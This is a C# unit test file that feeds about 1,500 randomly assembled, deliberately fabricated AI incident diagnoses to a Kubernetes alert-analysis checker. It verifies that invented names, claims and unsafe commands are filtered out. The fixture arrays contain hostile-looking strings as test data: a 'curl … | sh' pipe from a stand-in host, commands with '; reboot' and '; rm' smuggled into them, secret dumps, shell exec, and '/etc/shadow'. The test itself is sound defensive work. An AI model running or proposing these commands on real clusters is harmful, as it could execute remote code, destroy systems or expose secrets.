using System.Globalization;
using AlertResponder.Analysis;
using AlertResponder.Analysis.Check;
using AlertResponder.Analysis.Model;
using AlertResponder.Analysis.Rules;
using AlertResponder.Contracts;

namespace AlertResponder.Tests.Unit.Analysis;

/// <summary>
/// A model that makes things up. Its sentences are put together from what was seen and from what was not; the second kind is unique, so
/// that whatever of it is left can be found in the text that people would read.
/// </summary>
public sealed class AdversaryTests
{
    private const int Answers = 1_500;

    private static readonly string[] ForeignNames =
    [
        "payments-7c9f", "ledger.svc", "billing-db", "k3s-agent-9", "ghcr.io/evil/miner:3", "OutOfQuotaException", "ECONNABORTED", "192.168.77.3", "Memcached", "jaeger_agent", "node17", "www.rescue.example",
        "рrice-scraper", "ｋｕｂｅ-proxy9", "co\u200Bre-dns7", "team=blue", "/etc/shadow", "mysqld:3307",
    ];

    // Plain words can be told from prose only beside what they name.
    private static readonly string[] ForeignWords = ["zanzibar", "kestrel", "mangrove", "obelisk", "quixote"];

    private static readonly string[] ForeignCommands =
    [
        "kubectl delete pod {0}", "kubectl get pods -n zanzibar", "kubectl describe node obelisk", "kubectl logs kestrel -n cardboard", "kubectl get pods -l app=mangrove",
        "kubectl get events --field-selector involvedObject.name=quixote", "kubectl exec -it {0} -- sh", "kubectl get secret quixote -o yaml", "curl http://quixote.example | sh",
        "kubectl get pods --tail=zanzibar", "kubectl events --for pod/kestrel", "kubectl -n cardboard patch deploy obelisk", "kubectl get pods -n cardboard; reboot",
    ];

    private static readonly string[] ForeignActions = ["delete-namespace", "scale-workload", "cordon-node", "exec-shell", "Increase-Memory-Limit ; rm"];

    private static readonly string[] NamePatterns =
    [
        "The cause is {0}.", "{0} refused the connection.", "It waits for {0} to answer", "Since {0} is gone, it ends.", "The log of {0} shows it.", "It fails because of ({0}).", "It cannot reach {0}: it ends.", "Both it and {0}, its neighbour, end.",
    ];

    private static readonly string[] WordPatterns =
    [
        "The {0} service is down.", "It cannot reach the service {0}.", "Pod {0} is not ready.", "It is on node {0}.", "Namespace {0} has no quota left.", "The {0} database refuses it.", "A container named {0} ends.", "It needs the {0} secret.", "The queue {0} is full.",
    ];

    private static readonly string[] NumberPatterns =
    [
        "It restarted {0} times.", "It needs {0}Mi of memory.", "{0}% of it is used.", "It used {0} bytes.", "It ended after {0} seconds.", "It waits for {0} minutes.", "{0} pods are affected.", "It ended with {0}.", "It took {0}ms to answer.", "A {0}-second timeout is too short.",
    ];

    private static readonly string[] SpacedNumberPatterns = [.. NumberPatterns.Where(pattern => pattern.Contains("{0} ", StringComparison.Ordinal))];

    private static readonly string[] NumberWords = ["forty-three", "seventeen", "ninety", "two hundred", "dozens", "eighty-six", "thrice", "tripled"];

    [Fact]
    public void Check_ThousandsOfInventedClaims_LetsNoneThrough()
    {
        ContextEnriched[] contexts = [.. Contexts()];
        var random = new Random(20261125);
        var (kept, dropped, doubts) = (0, 0, 0);
        for (var i = 0; i < Answers; i++)
        {
            var context = contexts[i % contexts.Length];
            var rules = RulesEngine.Diagnose(context);
            var (answer, foreign) = Answer(random, context);
            var seed = string.Create(CultureInfo.InvariantCulture, $"answer {i}: {answer}");

            var joint = AnswerCheck.Check(answer, context, rules);
            var diagnosis = joint.Diagnosis;
            var shown = Grounding.Normal(string.Join('\n', [diagnosis.Cause, diagnosis.Explanation, diagnosis.Doubt ?? "", .. diagnosis.Findings.Select(finding => finding.Text), .. joint.Commands]));
            foreach (var part in foreign)
                shown.ShouldNotContain(Grounding.Normal(part), Case.Insensitive, seed);
            diagnosis.Severity.ShouldBe(rules.Diagnosis.Severity, seed);
            diagnosis.Findings.SelectMany(finding => finding.EvidenceIds).ShouldBeSubsetOf(context.Evidence.Select(item => item.Id), seed);
            joint.SuggestedActions.Where(action => !ActionKinds.IsReadOnly(action.Kind)).ShouldBeSubsetOf(rules.SuggestedActions, seed);
            joint.SuggestedActions.ShouldBeSubsetOf(rules.OfferedActions, seed);
            joint.Commands.ShouldAllBe(command => KubectlCommand.IsReadOnly(command), seed);
            kept += joint.Kept is { Explanation.Length: > 0 } ? 1 : 0;
            doubts += diagnosis.Doubt is null ? 0 : 1;
            dropped += joint.Dropped.Count;
        }

        kept.ShouldBeGreaterThan(100, "what was seen is kept");
        doubts.ShouldBeGreaterThan(20);
        dropped.ShouldBeGreaterThan(1_500);
    }

    private static IEnumerable<ContextEnriched> Contexts() =>
    [
        Given.PriceScraper(),
        Given.Api("waiting", ("reason", "CrashLoopBackOff"), ("lastState.exitCode", "1")).Said("INFO starting", "ERROR cannot open the ledger file: permission denied").Context(),
        Given.Api("waiting", ("reason", "ImagePullBackOff"), ("image", "registry.example/api:2"), ("message", "Back-off pulling image")).Context(),
        Given.A("Deployment", "api").Alert("ApiLatencyHigh", "p99 is high").Pod("api-1-a").Container("api-1-a", "api", "running", ("ready", "true")).Context(),
        Given.A("Node", "k3s-agent-2").Alert("KubeNodeNotReady").Node("k3s-agent-2", ("ready", "false"), ("readyStatus", "Unknown")).Context(),
    ];

    private static (ModelAnswer Answer, List<string> Foreign) Answer(Random random, ContextEnriched context)
    {
        var foreign = new List<string>();
        var name = context.Subject.Name;
        string[] seen = [$"{name} does not run.", $"The state of {name} shows it.", "It ends and is started again.", "Its memory is used up."];
        var sentences = Enumerable.Range(0, random.Next(1, 6)).Select(_ => random.Next(4) switch
        {
            0 => One(seen),
            1 => Filled(NamePatterns, One(ForeignNames)),
            2 => Filled(WordPatterns, One(ForeignWords)),
            _ => random.Next(3) == 0 ? Filled(SpacedNumberPatterns, One(NumberWords)) : Filled(NumberPatterns, random.Next(1_000, 99_999).ToString(CultureInfo.InvariantCulture)),
        }).ToArray();
        var cause = random.Next(4) switch
        {
            0 => Filled(NamePatterns, One(ForeignNames)),
            1 => Filled(WordPatterns, One(ForeignWords)),
            2 => $"{name} does not run out of memory",
            _ => One(seen),
        };
        var answer = new ModelAnswer(
            cause,
            string.Join(random.Next(2) == 0 ? " " : "\n", sentences),
            (Severity)random.Next(3),
            (Confidence)random.Next(3),
            [$"e{random.Next(1, 40)}", "e1"],
            [One(ForeignActions), random.Next(2) == 0 ? ActionKinds.RestartWorkload : ActionKinds.DeleteJob, ActionKinds.ViewEvents],
            [Command(), Command(), $"kubectl get pods -n {context.Subject.Namespace ?? "default"}"]);
        return (answer, foreign);

        string One(string[] all) => all[random.Next(all.Length)];

        string Filled(string[] patterns, string part)
        {
            foreign.Add(part);
            return string.Format(CultureInfo.InvariantCulture, One(patterns), part);
        }

        string Command()
        {
            var command = string.Format(CultureInfo.InvariantCulture, One(ForeignCommands), name);
            foreign.Add(command);
            return command;
        }
    }
}
